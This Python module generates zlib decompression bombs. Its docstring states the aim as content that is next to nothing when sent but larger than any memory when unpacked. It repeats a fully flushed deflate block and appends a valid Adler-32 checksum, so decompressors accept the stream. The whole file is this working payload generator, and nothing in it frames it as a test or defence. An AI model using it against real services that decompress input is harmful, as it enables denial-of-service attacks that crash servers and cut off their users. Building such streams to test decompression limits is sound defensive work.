"""Content that is next to nothing as it is sent, and more than any memory when it is unpacked."""

import struct
import zlib

PIECE = 1_000_000
MODULUS = 65521


def packed(byte: bytes, size: int) -> bytes:
    """Return a zlib stream of so many times this byte, without packing all of them."""
    packer = zlib.compressobj(9, wbits=-15)
    # After a full flush nothing refers to what was before, so that the piece can stand there again and again.
    piece = packer.compress(byte * PIECE) + packer.flush(zlib.Z_FULL_FLUSH)
    times, rest = divmod(size, PIECE)
    return b"\x78\xda" + piece * times + packer.compress(byte * rest) + packer.flush() + sum_of(byte, size)


def sum_of(byte: bytes, size: int) -> bytes:
    """Return the Adler-32 of so many times this byte."""
    value = byte[0]
    low = (1 + size * value) % MODULUS
    high = (size + value * size * (size + 1) // 2) % MODULUS
    return struct.pack(">I", high << 16 | low)
